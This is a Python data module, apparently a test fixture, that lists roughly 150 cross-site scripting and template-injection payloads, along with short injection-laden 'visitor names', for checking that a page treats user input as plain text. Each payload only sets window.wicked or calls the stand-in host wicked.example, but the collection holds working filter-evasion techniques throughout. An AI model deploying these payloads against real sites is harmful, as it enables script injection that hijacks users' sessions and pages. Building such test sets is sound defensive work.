"""Wicked strings: each would do something, if the page took it for anything but text.

What they would do is set, get or call `window.wicked`, open a dialog, or ask for an address with `wicked` in it. None
has control characters or blanks at its ends, which are taken from words on their way, and none is longer than a line.
"""

DEED = "window.wicked=1"
ELSEWHERE = "//wicked.example/x"

TAGS = [
    f"<script>{DEED}</script>",
    f"<SCRIPT>{DEED}</SCRIPT >",
    f"<script >{DEED}</script\t>".replace("\t", " "),
    f"<script src={ELSEWHERE}></script>",
    "<script type=module>import '/wicked.js'</script>",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    f"<<script>{DEED}//<</script>",
    f"<iframe src='javascript:parent.{DEED}'></iframe>",
    f'<iframe srcdoc="<script>parent.{DEED}</script>"></iframe>',
    f"<object data='javascript:{DEED}'></object>",
    f"<embed src='javascript:{DEED}'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}.css>",
    f"<link rel=prefetch href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action={ELSEWHERE}><button>wicked</button></form>",
    f"<template><script>{DEED}</script></template>",
    f"<noscript><p title='</noscript><img src=/wicked.png onerror={DEED}>'>",
    f"<portal src={ELSEWHERE}></portal>",
    f"<frameset onload={DEED}><frame src={ELSEWHERE}></frameset>",
    f"<table background={ELSEWHERE}><tr><td>wicked</td></tr></table>",
    f"<plaintext><script>{DEED}</script>",
    f"<xmp><p title='</xmp><script>{DEED}</script>'></xmp>",
    "<b><i><u>wicked</u></i></b>",
]
HANDLERS = [
    f"<img src=/wicked.png onerror={DEED}>",
    f'<img src="/wicked.png" onerror="{DEED}">',
    "<img src=x:wicked onerror=alert`1`>",
    f"<IMG SRC=/wicked.png OnErRoR={DEED}>",
    f"<img/src=/wicked.png/onerror={DEED}>",
    f"<img srcset='/wicked.png 1x' onerror={DEED}>",
    f"<body onload={DEED}>",
    f"<body onpageshow={DEED}>",
    f"<input autofocus onfocus={DEED}>",
    f"<select autofocus onfocus={DEED}></select>",
    f"<textarea autofocus onfocus={DEED}></textarea>",
    f"<details open ontoggle={DEED}>",
    f"<video src=/wicked.mp4 onerror={DEED}></video>",
    f"<video><source onerror={DEED}></video>",
    f"<audio src=/wicked.ogg onerror={DEED}></audio>",
    f"<marquee onstart={DEED}>wicked</marquee>",
    f"<div onpointerover={DEED}>wicked</div>",
    f"<p onanimationstart={DEED} class=bubble>wicked</p>",
    f"<div popover id=wicked onbeforetoggle={DEED}>wicked</div>",
    f"<x tabindex=1 autofocus onfocus={DEED}>",
    f"<style onload={DEED}></style>",
    f"<script onerror={DEED} src=/wicked.js></script>",
    f"<link rel=stylesheet href=/wicked.css onerror={DEED}>",
    f"<iframe onload={DEED}></iframe>",
    "<img src=/wicked.png onerror=eval(atob('d2luZG93LndpY2tlZD0x'))>",
]
ATTRIBUTES = [
    f'" onmouseover="{DEED}',
    f"' onmouseover='{DEED}",
    f'" autofocus onfocus="{DEED}" x="',
    f'"><script>{DEED}</script>',
    f"'><script>{DEED}</script>",
    f"`><script>{DEED}</script>",
    f'"/><img src=/wicked.png onerror={DEED}>',
    f"</p><script>{DEED}</script>",
    f"</span></div><img src=/wicked.png onerror={DEED}>",
    f"</title><script>{DEED}</script>",
    f"</textarea><script>{DEED}</script>",
    f"</style><script>{DEED}</script>",
    f"</script><script>{DEED}</script>",
    '" style="background:url(/wicked.png)',
    '" class="curtain" hidden="false" id="wicked',
    "../../wicked.png?x=",
    "%22%3E%3Cscript%3Ewindow.wicked%3D1%3C/script%3E",
]
DRAWINGS = [
    f"<svg onload={DEED}>",
    f"<svg/onload={DEED}>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><script href={ELSEWHERE}.js /></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<svg><set onend={DEED} attributeName=x dur=1s>",
    "<svg><image href=/wicked.png></svg>",
    "<svg><use href=/wicked.svg#x></use></svg>",
    f"<svg><a xlink:href='javascript:{DEED}'><text y=20>wicked</text></a></svg>",
    f"<svg><foreignObject><body onload={DEED}></foreignObject></svg>",
    f"<svg><style><img src=/wicked.png onerror={DEED}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=/wicked.png onerror={DEED}>",
    f"<math href='javascript:{DEED}'>wicked</math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{DEED}'>wicked</maction></math>",
]
ADDRESSES = [
    f"javascript:{DEED}",
    f"JaVaScRiPt:{DEED}",
    f"java&#9;script:{DEED}",
    f"&#106;avascript:{DEED}",
    f"javascript://%0a{DEED}",
    f"<a href='javascript:{DEED}'>wicked</a>",
    f"<a href=' javascript:{DEED}'>wicked</a>",
    f"<a href='data:text/html,<script>opener.{DEED}</script>'>wicked</a>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cud2lja2VkPTE8L3NjcmlwdD4=",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}>wicked</a>",
    "vbscript:window.wicked",
    "https://wicked.example/?a=<script>",
    "//wicked.example",
    f"<button formaction='javascript:{DEED}'>wicked</button>",
    "blob:https://wicked.example/1",
]
TEMPLATES = [
    "{{constructor.constructor('window.wicked=1')()}}",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "${window.wicked()}",
    "`${window.wicked=1}`",
    "{who}{name}{place}{count}{wicked}",
    "{constructor}{__proto__}{toString}",
    "$&$1$`$'$$",
    "%s%d%c%o%n",
    "{0}{self.__class__.__mro__}",
    "[[${window.wicked}]]",
    "<%= window.wicked %>",
    "{% import os %}{{ os.popen('wicked') }}",
    "';window.wicked=1;//",
    '\\";window.wicked=1;//',
    "__proto__",
    "constructor",
]
UNICODE = [
    f"＜script＞{DEED}＜/script＞",
    f"\u202e>tpircs/<{DEED}>tpircs<",
    f"<scr\u200bipt>{DEED}</scr\u200bipt>",
    f"<scr\u00adipt>{DEED}</scr\u00adipt>",
    f"<\u017fcript>{DEED}</\u017fcript>",
    f"<img\u3000src=/wicked.png\u3000onerror={DEED}>",
    f"\ufeff<script>{DEED}</script>\ufeff桃",
    f"+ADw-script+AD4-{DEED}+ADw-/script+AD4-",
    f"¼script¾{DEED}¼/script¾",
    f"桃<script>{DEED}</script>源",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a wicked",
    "👩‍🌾🏴‍☠️<b>wicked</b>",
]
STYLES = [
    "<style>*{background:url(/wicked.png)}</style>",
    "<style>@import '/wicked.css';</style>",
    f"<style>@import url({ELSEWHERE}.css);</style>",
    "<div style='background:url(/wicked.png)'>wicked</div>",
    "<p style='position:fixed;inset:0;z-index:9999'>wicked</p>",
    f"<div style='width:expression({DEED})'>wicked</div>",
    "x;background-image:url(/wicked.png)",
    "}*{background:url(/wicked.png)}.x{",
    "url(javascript:window.wicked=1)",
]
COMMENTS = [
    f"<!--<img src=--><img src=/wicked.png onerror={DEED}>-->",
    f"--><script>{DEED}</script><!--",
    f"<!--[if gte IE 4]><script>{DEED}</script><![endif]-->",
    f"<![CDATA[<script>{DEED}</script>]]>",
    f"]]><script>{DEED}</script>",
    f"<?xml version='1.0'?><script>{DEED}</script>",
    f"<!DOCTYPE html><script>{DEED}</script>",
    f"<!ENTITY wicked SYSTEM '{ELSEWHERE}'>&wicked;",
]
MARKDOWN = [
    f"[wicked](javascript:{DEED})",
    "![wicked](/wicked.png)",
    f"![wicked]({ELSEWHERE} 'x\" onerror=\"{DEED}')",
    f"<javascript:{DEED}>",
    f"```html <script>{DEED}</script> ```",
    f"[x]: javascript:{DEED}",
    f"**<img src=/wicked.png onerror={DEED}>**",
]
ENTITIES = [
    f"&lt;script&gt;{DEED}&lt;/script&gt;",
    f"&#60;script&#62;{DEED}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{DEED}&#x3c;/script&#x3e;",
    f"&amp;lt;script&amp;gt;{DEED}",
    f"\\u003cscript\\u003e{DEED}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{DEED}\\x3c/script\\x3e",
    f"&lt;img src=/wicked.png onerror={DEED}&gt;",
    "&nbsp;&quot;&apos;&NewLine;&Tab;&wicked;",
]
KINDS = {
    "tags": TAGS,
    "handlers": HANDLERS,
    "attributes": ATTRIBUTES,
    "drawings": DRAWINGS,
    "addresses": ADDRESSES,
    "templates": TEMPLATES,
    "unicode": UNICODE,
    "styles": STYLES,
    "comments": COMMENTS,
    "markdown": MARKDOWN,
    "entities": ENTITIES,
}
WICKED = tuple(string for kind in KINDS.values() for string in kind)

NAMES = (
    "<script>wicked()</scrip",
    "<svg onload=wicked()>",
    "<b onclick=wicked()>",
    "<img src=/wicked.png>",
    "<p onclick=alert`1`>",
    "<x onfocus=wicked()>",
    '"onfocus="wicked()',
    "'onfocus='wicked()",
    '"><svg onload=wicked()>',
    "javascript:wicked()",
    "{{wicked()}}${wicked()}",
    "{who}{name}{__proto__}",
    "$&$1$`$'$$",
    "&lt;b&gt;wicked&lt;/b&gt",
    "<!--wicked--><b>",
    "]]><b>wicked</b>",
    "<style>*{color:red}",
    "</p></main><h1>wicked",
    "[a](javascript:wicked())",
    "__proto__",
    "constructor",
    "＜script＞wicked()",
    "<a href=//wicked.exampl",
    "<iframe src=/wicked>",
    "<base href=//wicked.exam",
    "%3Cscript%3Ewicked()",
)
"""Visitors' names have 24 characters at most, and none that can't be seen."""


def packed(strings: tuple[str, ...], maximum: int) -> list[str]:
    """The strings in as few texts of at most `maximum` characters as they come to, in order, one blank between two."""
    texts = [strings[0]]
    for string in strings[1:]:
        if len(texts[-1]) + 1 + len(string) <= maximum:
            texts[-1] += " " + string
        else:
            texts.append(string)
    return texts
